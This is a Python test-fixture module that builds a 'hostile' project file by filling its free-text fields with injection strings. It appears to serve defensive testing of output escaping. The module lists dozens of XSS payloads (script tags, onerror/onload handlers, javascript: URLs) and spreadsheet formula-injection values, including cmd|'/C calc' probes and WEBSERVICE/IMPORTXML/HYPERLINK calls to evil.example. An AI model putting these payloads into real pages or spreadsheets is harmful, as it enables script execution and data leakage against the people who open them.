"""Texts that somebody types who means no good, and a project that is full of them."""

import json
from collections.abc import Iterator
from itertools import cycle
from typing import Any

import jsonschema_rs

from tests.example_project import example_project
from visimal.project_file.schema import schema

#: Each runs `alert(1)` in a page that writes it as it is, in one place or another.
SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)//",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=&#97;lert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) '",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>",
    "${alert(1)}<script>alert(1)</script>",
)

#: What a spreadsheet takes for a formula, a link, an error or a command.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example","Invoice")',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1,1)",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "= 1+1",
    "==1+1",
    "=\u00a01",
    "\uff1d1+1",
    "\uff0b1",
    "\uff201",
    "|calc",
    "%1+1",
    "#REF!",
    "#N/A",
    "#NAME?",
    "TRUE",
    "'=1+1",
    '"=1+1"',
    "1;=1+1",
    "a,=1+1",
    "{=SUM(1)}",
    "_x003D_1+1",
    "<f>1+1</f>",
)

#: Free texts of a project file: whatever partners and controllers write.
_FREE = {
    "acronym",
    "abbreviation",
    "comment",
    "description",
    "internal_reference",
    "invoice_number",
    "item",
    "name",
    "note",
    "reason",
    "source",
    "specific_objective",
    "supplier",
    "supplier_vat",
    "title",
    "unit",
    "vat_number",
}
_OF_LINES = ("supplier", "comment", "internal_reference", "invoice_number")
_SHORT = 40
_SHORTS = {"acronym", "abbreviation", "vat_number", "supplier_vat"}


def hostile_project(texts: tuple[str, ...]) -> dict[str, Any]:
    """The example project, of which every free text is one of these."""
    document = example_project()
    for report in document["reports"]:
        for line in report["lines"]:
            line.update(dict.fromkeys(_OF_LINES, "x"))
            if line.get("control"):
                line["control"]["comment"] = "x"
    several = cycle(texts)
    shorts = cycle([one for one in texts if len(one) <= _SHORT])
    for holder, key in _free_texts(document):
        is_short = key in _SHORTS or holder is document["project"]
        _set(document, holder, key, next(shorts if is_short else several))
    _name_differently(document)
    written = json.dumps(document)
    missing = [one for one in texts if json.dumps(one)[1:-1] not in written]
    lines = (line for report in document["reports"] for line in report["lines"])
    for line, text in zip(lines, missing, strict=False):
        line["supplier"] = text
    return document


def _free_texts(thing: object, key: str = "") -> Iterator[tuple[dict[str, Any], str]]:
    """Every place of a free text: what holds it, and under which name."""
    if isinstance(thing, list):
        for one in thing:
            yield from _free_texts(one, key)
    if isinstance(thing, dict):
        for name, value in thing.items():
            is_free = name in _FREE or (key in _FREE and name in {"en", "fr", "nl"})
            if isinstance(value, str) and is_free:
                yield thing, name
            else:
                yield from _free_texts(value, name)


def _set(document: object, holder: dict[str, Any], key: str, text: str) -> None:
    """Put a text there if a project file may say it."""
    before = holder[key]
    holder[key] = text
    if not _VALIDATOR.is_valid(document):
        holder[key] = before


def _name_differently(document: dict[str, Any]) -> None:
    """No two partners may have the same short name."""
    for number, partner in enumerate(document["partners"]):
        partner["abbreviation"] = f"{partner['abbreviation'][:38]}{number}"


_VALIDATOR = jsonschema_rs.validator_for(json.loads(json.dumps(schema())))
